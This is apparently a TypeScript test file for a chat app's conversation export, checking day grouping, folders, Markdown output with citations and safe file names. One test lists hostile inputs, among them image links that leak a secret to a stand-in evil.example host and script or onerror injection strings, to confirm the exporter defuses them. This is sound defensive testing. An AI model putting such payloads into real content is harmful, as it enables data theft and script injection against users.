import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import ReactMarkdown from 'react-markdown';
import { expect, it } from 'vitest';
import { conversationAsMarkdown, fileName } from '@/features/conversations/export';
import { foldersOf } from '@/features/conversations/folders-of';
import { groupByDay } from '@/features/conversations/group-by-day';
import type { Message } from '@/types/api';

const at = (iso: string) => ({ id: iso, title: iso, updated_at: iso });

it('groups conversations by when they were last used', () => {
  const now = new Date('2026-03-10T15:00:00');
  const local = (text: string) => new Date(text).toISOString();
  const days = ['2026-03-10T09:00:00', '2026-03-09T23:00:00', '2026-03-05T10:00:00', '2026-01-01T10:00:00'];
  const groups = groupByDay(
    days.map((text) => at(local(text))),
    now,
  );
  expect(groups.map(({ group }) => group)).toEqual(['today', 'yesterday', 'week', 'older']);
});

it('puts conversations under their folders, by name', () => {
  const inside = (id: string, folder: string | null) => ({ ...at(id), folder });
  const folders = foldersOf([
    inside('1', 'Work'),
    inside('2', null),
    inside('3', 'Law'),
    inside('4', 'Work'),
  ]);
  expect(folders.map(({ name, conversations }) => [name, conversations.map(({ id }) => id)])).toEqual([
    ['Law', ['3']],
    ['Work', ['1', '4']],
  ]);
});

it('writes a conversation as Markdown, with the sources that were cited', async () => {
  const message = (fields: Partial<Message>) =>
    ({ citations: [], sources: [], ...fields }) as unknown as Message;
  const source = { filename: 'a.pdf', page: 3 };
  const text = await conversationAsMarkdown({
    ...at('2026-03-10T15:00:00Z'),
    title: 'Sales',
    messages: [
      message({ role: 'user', text: 'Why?' }),
      message({
        role: 'assistant',
        text: 'Because [1].',
        sources: [source, source] as never,
        citations: [{ n: 1 }] as never,
      }),
    ],
  });
  expect(text).toContain('# Sales');
  expect(text).toContain('## Why?');
  expect(text).toContain('Because [1].\n\n- [1] a.pdf, p. 3');
  expect(text).not.toContain('[2]');
});

it('writes nothing into Markdown that a program would run or fetch', async () => {
  const hostile = [
    '![x](https://evil.example/?q=SECRET)',
    '![x][r]\n\n[r]: https://evil.example',
    '\\![x](https://evil.example)',
    '```\n```\n![x](https://evil.example)',
    '<img src=x onerror=alert(1)>',
    '<!-- --><script>alert(1)</script>',
    '</p><iframe src="https://evil.example">',
    'a < b and List<String>',
  ];
  for (const text of hostile) {
    const written = await conversationAsMarkdown({
      ...at('2026-03-10T15:00:00Z'),
      title: text,
      messages: [
        { role: 'user', text } as Message,
        {
          role: 'assistant',
          text,
          sources: [{ filename: text, page: null }],
          citations: [{ n: 1 }],
        } as unknown as Message,
      ],
    });
    expect(written).not.toMatch(/<[a-z/!?]/i);
    const shown = renderToStaticMarkup(createElement(ReactMarkdown, null, written));
    expect(shown).not.toContain('<img');
  }
});

it('writes code into Markdown as it is', async () => {
  const text = 'Use `Map<string, int>`:\n\n```html\n<b>![x](y)</b>\n```';
  const written = await conversationAsMarkdown({
    ...at('2026-03-10T15:00:00Z'),
    messages: [
      { role: 'user', text: 'How do I write <b>?' } as Message,
      { role: 'assistant', text, sources: [], citations: [] } as unknown as Message,
    ],
  });
  expect(written).toContain('## How do I write &lt;b>?');
  expect(written).toContain(text);
});

it('makes file names that every system takes', () => {
  expect(fileName('a/b: "c"?')).toBe('a b c');
  expect(fileName('')).toBe('Untitled');
});
